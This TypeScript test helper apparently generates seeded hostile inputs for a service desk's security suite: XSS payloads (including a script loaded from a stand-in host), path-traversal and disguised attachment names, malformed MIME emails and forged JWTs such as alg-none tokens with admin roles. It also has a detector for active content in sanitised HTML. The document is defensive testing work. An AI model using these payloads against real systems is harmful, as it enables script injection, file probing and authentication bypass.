import { parseDocument } from 'htmlparser2';
import type { AnyNode } from 'domhandler';

// Seeded generators of hostile input for the hostile-input suite: the same seed gives the same inputs, so a failure
// reproduces. The shapes follow the public XSS vector lists (OWASP's filter evasion cheat sheet, the PortSwigger
// XSS cheat sheet): event handlers, scheme tricks, encodings, broken markup, mutation-XSS nesting.

/** mulberry32: small, fast, good enough to pick shapes. */
export function seeded(seed: number) {
  let state = seed >>> 0;
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (max: number): number => Math.floor(next() * max);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)] as T;
  return { next, int, pick };
}
export type Random = ReturnType<typeof seeded>;

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'jav&#x09;ascript:alert(1)',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'ONCLICK',
  'onanimationstart',
  'onpointerenter',
];
const VECTORS: Array<(r: Random) => string> = [
  () => '<script>alert(1)</script>',
  () => '<ScRiPt src=//evil.test/x.js></ScRiPt>',
  (r) => `<img src=x ${r.pick(HANDLERS)}=alert(1)>`,
  (r) => `<a href="${r.pick(SCHEMES)}">click</a>`,
  (r) => `<svg><a xlink:href="${r.pick(SCHEMES)}"><text>x</text></a></svg>`,
  () => '<svg onload=alert(1)><script>alert(2)</script></svg>',
  () => '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  () => '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  () => '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  () => '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  () => '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  () => '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  () => '<base href="javascript:alert(1)//">',
  () => '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
  (r) => `<div title="<" ${r.pick(HANDLERS)}="alert(1)">attribute with a bracket</div>`,
  () => '<img """><script>alert(1)</script>">',
  () => '<<script>script>alert(1)<</script>/script>',
  () => '<img src=`x`onerror=alert(1)>',
  () => '<details open ontoggle=alert(1)>',
  () => '<template><script>alert(1)</script></template>',
  () => '<!--<img src="--><img src=x onerror=alert(1)//">',
  () => '<![CDATA[<script>alert(1)</script>]]>',
  () => '<p>plain text &lt;script&gt;alert(1)&lt;/script&gt; as words</p>',
];

/** A hostile HTML body: vectors in ordinary text, sometimes deeply nested. */
export function hostileHtml(r: Random): string {
  const parts = Array.from({ length: 1 + r.int(4) }, () => r.pick(VECTORS)(r));
  const depth = r.next() < 0.15 ? 50 + r.int(950) : r.int(5);
  const tag = r.pick(['div', 'blockquote', 'span', 'table><tr><td', 'b']);
  const open = `<${tag}>`.repeat(depth);
  return `<html><body><p>Hello, about my request.</p>${open}${parts.join('<br>')}</body></html>`;
}

const NAMES = [
  'invoice.exe?',
  'photo.jpg.exe',
  'report.pdf\u202Eexe.txt',
  '..\\..\\boot.ini',
  '../../etc/passwd',
  'CON',
  'a'.repeat(400) + '.exe',
  'setup.exe.',
  'setup.exe   ',
  '.hidden.lnk',
  'disk.ISO',
  'note.one',
  'x:stream.exe',
  'normal.txt',
  'bild\u0000.scr',
  'résumé.pdf',
  '%2e%2e%2fevil.bat',
  'file<>|*?.js',
  '\u200Bclean.hta',
  '',
];

export function hostileFileName(r: Random): string {
  const base = r.pick(NAMES);
  return r.next() < 0.3 ? `${base}${r.pick(['', '?', '.', ' ', '\t', '/', '::$DATA'])}` : base;
}

/** A raw MIME message from a customer, malformed in one or more ways. */
export function hostileMime(r: Random, to: string, srNumber: string, index: number): string {
  const boundary = r.next() < 0.2 ? '' : `b${index}`;
  const subject = r.pick([
    `RE: ${srNumber} ${'long '.repeat(r.int(400))}`,
    `=?utf-8?B?${Buffer.from(`RE: ${srNumber} <script>alert(1)</script>`).toString('base64')}?=`,
    `=?bogus-charset?Q?${srNumber}_=E2=80?=`,
    `RE: ${srNumber}\u0000\u0007 control`,
  ]);
  const headers = [
    `From: ${r.pick(['"Diego" <diego@fabrikam.test>', 'diego@fabrikam.test', '<>', '"=?utf-8?B?PHNjcmlwdD4=?=" <diego@fabrikam.test>', 'no-at-sign'])}`,
    `To: ${to}`,
    `Subject: ${subject}`,
    `Message-ID: <hostile-${index}@fabrikam.test>`,
    r.next() < 0.3 ? `X-Folded: a\r\n\tb\r\n c` : 'X-Plain: 1',
    r.next() < 0.2 ? 'Content-Transfer-Encoding: base64' : 'MIME-Version: 1.0',
  ];
  const html = hostileHtml(r);
  if (!boundary)
    return `${headers.join('\r\n')}\r\nContent-Type: text/html; charset=${r.pick(['utf-8', 'x-unknown', 'iso-8859-1'])}\r\n\r\n${html}\r\n`;
  const nested =
    r.next() < 0.3
      ? `--${boundary}\r\nContent-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}--\r\n`
      : '';
  const big =
    r.next() < 0.1
      ? `--${boundary}\r\nContent-Type: application/octet-stream; name="big.bin"\r\nContent-Disposition: attachment; filename="big.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\n${'QUFB'.repeat(250_000)}\r\n`
      : '';
  const named = `--${boundary}\r\nContent-Type: application/octet-stream; name="${hostileFileName(r).replace(/"/g, '')}"\r\nContent-Disposition: attachment\r\n\r\nbytes\r\n`;
  return `${headers.join('\r\n')}\r\nContent-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: ${r.pick(['quoted-printable', '8bit', '7bit'])}\r\n\r\n${html}\r\n${nested}${big}${named}${r.next() < 0.8 ? `--${boundary}--\r\n` : ''}`;
}

/** A token an attacker could send: the real one cut, re-signed as none, with claims swapped, or garbage. */
export function hostileToken(r: Random, valid: string): string {
  const [header = '', payload = '', signature = ''] = valid.split('.');
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<string, unknown>;
  const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const mutated = {
    ...claims,
    [r.pick(['roles', 'exp', 'aud', 'tid', 'oid', 'azp'])]: r.pick([
      ['ServiceDesk.Admin'],
      9_999_999_999,
      'api://other',
      null,
      '',
    ]),
  };
  return r.pick([
    () => `${encode({ alg: 'none', typ: 'JWT' })}.${encode(mutated)}.`,
    () => `${header}.${encode(mutated)}.${signature}`,
    () => `${encode({ alg: 'HS256', typ: 'JWT' })}.${payload}.${signature}`,
    () => valid.slice(0, r.int(valid.length)),
    () => `${header}.${payload}`,
    () => 'x'.repeat(r.int(20_000)),
    () => `${header}.${payload}.${signature.split('').reverse().join('')}`,
  ])();
}

const ACTIVE_TAGS = new Set([
  'script',
  'iframe',
  'object',
  'embed',
  'frame',
  'frameset',
  'applet',
  'base',
  'meta',
  'form',
  'svg',
  'math',
  'template',
  'noscript',
  'link',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'background',
  'poster',
  'srcdoc',
]);

/** What in sanitised HTML could run: active elements, event handlers, script URLs, CSS expressions. */
export function activeContent(html: string): string[] {
  const found: string[] = [];
  const walk = (node: AnyNode): void => {
    if (node.type === 'script' || node.type === 'style' || node.type === 'tag') {
      const element = node as unknown as {
        name: string;
        attribs: Record<string, string>;
        children: AnyNode[];
      };
      if (ACTIVE_TAGS.has(element.name.toLowerCase())) found.push(`<${element.name}>`);
      for (const [name, value] of Object.entries(element.attribs)) {
        const lower = name.toLowerCase();
        // eslint-disable-next-line no-control-regex -- browsers skip control characters inside a URL scheme
        const compact = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        if (lower.startsWith('on')) found.push(`${name}=`);
        if (URL_ATTRIBUTES.has(lower) && /^(javascript|vbscript|data:text)/.test(compact))
          found.push(`${name}=${value}`);
        if (lower === 'style' && /expression\(|javascript:|url\(\s*['"]?\s*javascript/i.test(value))
          found.push(`style=${value}`);
      }
      element.children.forEach(walk);
    } else if ('children' in node) (node as { children: AnyNode[] }).children.forEach(walk);
  };
  walk(parseDocument(html));
  return found;
}
